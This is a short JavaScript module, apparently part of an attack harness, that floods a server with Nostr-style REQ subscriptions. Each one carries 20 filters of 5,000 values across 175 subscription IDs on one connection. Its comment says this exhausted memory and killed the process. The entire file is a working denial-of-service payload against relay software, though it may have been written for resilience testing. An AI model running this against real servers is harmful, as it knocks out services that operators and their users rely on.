// Subscriptions that take memory: 175 of 20 filters of 5,000 values each on one connection, which ended the process.
import { attackModule } from '../attack-client.mjs';

const SUBSCRIPTIONS = 175;
const values = Array.from({ length: 5_000 }, (_, i) => 2_000 + i);
const filters = JSON.stringify(Array.from({ length: 20 }, () => ({ kinds: values }))).slice(1, -1);

export default attackModule({
  name: 'filters',
  isCheap: false,
  told: 'subscriptions of 20 filters of 5,000 kinds',
  begin: ({ send }) => {
    let next = 0;
    return () => send(`["REQ","s${next++ % SUBSCRIPTIONS}",${filters}]`);
  },
});
